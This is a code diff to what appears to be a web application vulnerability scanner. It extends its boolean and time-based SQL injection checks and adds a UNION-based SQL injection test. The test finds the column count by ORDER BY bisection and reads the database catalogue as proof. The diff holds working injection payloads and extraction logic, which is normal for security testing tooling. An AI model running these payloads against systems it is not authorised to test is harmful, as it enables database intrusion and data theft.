@@ -70,8 +70,11 @@ export async function sqliBoolean(ctx: ScanContext, test: ScanTest): Promise<voi
     const isNum = /integer|number/.test(String(p.schema['type']));
     if (numeric !== isNum) continue;
     const v = numeric ? String(p.sample ?? 1) : `${String(p.sample ?? 'mamori')}${ctx.rng.marker('')}`;
-    const t = numeric ? `${v} OR 1=1` : `${v}' OR '1'='1`;
-    const f = numeric ? `${v} AND 1=2` : `${v}' AND '1'='2`;
+    // Default: SQL; other dialects (server-side JavaScript) name their own true/false templates.
+    const tt = test.options['true'] as string | undefined;
+    const ft = test.options['false'] as string | undefined;
+    const t = tt ? tt.replace('{v}', v) : numeric ? `${v} OR 1=1` : `${v}' OR '1'='1`;
+    const f = ft ? ft.replace('{v}', v) : numeric ? `${v} AND 1=2` : `${v}' AND '1'='2`;
     const base = await ctx.send({ ...p.build(v), note: 'control: plain value' });
     const yes = await ctx.send({ ...p.build(t), note: 'always-true condition' });
     const no = await ctx.send({ ...p.build(f), note: 'always-false condition' });
@@ -99,7 +102,12 @@ export async function sqliTime(ctx: ScanContext, test: ScanTest): Promise<void> 
   const template = String(test.options['payload']);
   for (const p of points(ctx, test)) {
     const v = String(p.sample ?? 'mamori');
-    const payload = (s: number) => template.replace('{v}', v).replace('{s}', String(s));
+    // {s} is seconds for SQL sleeps; {ms} milliseconds for JavaScript-style sleep(ms).
+    const payload = (s: number) =>
+      template
+        .replace('{v}', v)
+        .replace('{s}', String(s))
+        .replace('{ms}', String(Math.round(s * 1000)));
     const zero = await ctx.send({ ...p.build(payload(0)), note: 'control: zero delay' });
     const slow = await ctx.send({ ...p.build(payload(seconds)), note: `delay ${seconds}s` });
     if (!zero || !slow || ctx.plan) continue;
@@ -112,7 +120,7 @@ export async function sqliTime(ctx: ScanContext, test: ScanTest): Promise<void> 
       where: where(p),
       proof: [zero, slow, zero2, slow2],
       control: `zero-delay payloads answered in ${Math.round(zero.response.ms)} and ${Math.round(zero2.response.ms)} ms; ${seconds}s and ${seconds * 2}s payloads took ${Math.round(slow.response.ms)} and ${Math.round(slow2.response.ms)} ms (delay scales with the payload)`,
-      detail: `A database sleep injected into ${where(p)} delays ${p.op.method} ${p.op.path}.`,
+      detail: `A ${String(test.options['what'] ?? 'database sleep')} injected into ${where(p)} delays ${p.op.method} ${p.op.path}.`,
       confidence: 0.9,
     });
   }
@@ -345,6 +353,83 @@ export async function sqliLogin(ctx: ScanContext, test: ScanTest): Promise<void>
       proof: [control, probe],
       control: `the same login with a wrong password and no SQL got ${control.response.status}; the payload logged in without the password`,
       detail: `${op.method} ${op.path} builds its credential query from ${userField}: authentication bypass with ${payload}.`,
+      confidence: 1,
+    });
+  }
+}
+
+const CLOSERS = ["'", "')", "'))", '"', ''];
+const sqlFailed = (ex: ScanExchange) =>
+  ex.response.status >= 500 || SQL_ERRORS.some((re) => re.test(ex.response.body));
+
+/** UNION-based SQL injection, proven by reading the database's own catalogue (table definitions),
+ *  what an attacker would do first. Column count by ORDER BY bisection, then a UNION of markers to
+ *  see which columns are shown, then the catalogue of the DBMS that answered. */
+export async function sqliUnion(ctx: ScanContext, test: ScanTest): Promise<void> {
+  for (const p of points(ctx, test)) {
+    const v = `${String(p.sample ?? 'mamori')}`;
+    const send = (value: string, note: string) => ctx.send({ ...p.build(value), note });
+    const base = await send(v, 'control: sample value');
+    if (!base || sqlFailed(base) || ctx.plan) continue;
+    let closer: string | undefined;
+    for (const c of CLOSERS) {
+      const one = await send(`${v}${c} ORDER BY 1-- -`, `ORDER BY 1 after ${c || 'nothing'}`);
+      if (!one || sqlFailed(one)) continue;
+      const many = await send(`${v}${c} ORDER BY 99-- -`, `ORDER BY 99 after ${c || 'nothing'}`);
+      if (many && sqlFailed(many)) {
+        closer = c;
+        break;
+      }
+    }
+    if (closer === undefined) continue;
+    // Largest n for which ORDER BY n works = the number of columns.
+    let lo = 1;
+    let hi = 99;
+    while (hi - lo > 1) {
+      const mid = Math.floor((lo + hi) / 2);
+      const ex = await send(`${v}${closer} ORDER BY ${mid}-- -`, `ORDER BY ${mid}`);
+      if (ex && !sqlFailed(ex)) lo = mid;
+      else hi = mid;
+    }
+    const columns = lo;
+    if (columns > 40) continue;
+    const nomatch = ctx.rng.marker('u');
+    const cols = (fill: (i: number) => string) =>
+      Array.from({ length: columns }, (_, i) => fill(i)).join(',');
+    const markers = await send(
+      `${nomatch}${closer} UNION SELECT ${cols((i) => `'${nomatch}c${i}'`)}-- -`,
+      `UNION SELECT of ${columns} markers`,
+    );
+    if (!markers || sqlFailed(markers)) continue;
+    const shown = Array.from({ length: columns }, (_, i) => i).find((i) =>
+      markers.response.body.includes(`${nomatch}c${i}`),
+    );
+    if (shown === undefined) continue;
+    const select = (expr: string, from: string) =>
+      `${nomatch}${closer} UNION SELECT ${cols((i) => (i === shown ? expr : `'${nomatch}'`))}${from}-- -`;
+    // The catalogue of whichever DBMS answers: SQLite, then MySQL/PostgreSQL/SQL Server.
+    let proof: ScanExchange | undefined;
+    let tables: string[] = [];
+    for (const [expr, from, pick] of [
+      ['sql', ' FROM sqlite_master', /CREATE TABLE [`"']?(\w+)/g],
+      ['table_name', ' FROM information_schema.tables', /"(\w+)"/g],
+    ] as const) {
+      const ex = await send(select(expr, from), `database catalogue (${from.trim()})`);
+      if (!ex || sqlFailed(ex) || !ok(ex) || same(ex, markers)) continue;
+      tables = [...ex.response.body.matchAll(pick)].map((m) => m[1]!).filter((t) => !t.startsWith(nomatch));
+      if (expr === 'table_name' && !/information_schema|pg_catalog|\b[A-Z_]{4,}\b/i.test(ex.response.body))
+        continue;
+      if (tables.length === 0) continue;
+      proof = ex;
+      break;
+    }
+    if (!proof) continue;
+    ctx.report(test, {
+      op: p.op,
+      where: where(p),
+      proof: [base, markers, proof],
+      control: `ORDER BY 1 works and ORDER BY 99 fails after ${closer || 'the value'} (the value closes a SQL string), ${columns} columns by bisection, the UNION's marker ${nomatch}c${shown} is shown, and the catalogue query returns table definitions the sample value never did`,
+      detail: `UNION-based SQL injection in ${where(p)} of ${p.op.method} ${p.op.path} reads the database catalogue: ${[...new Set(tables)].slice(0, 12).join(', ')}.`,
       confidence: 1,
     });
   }
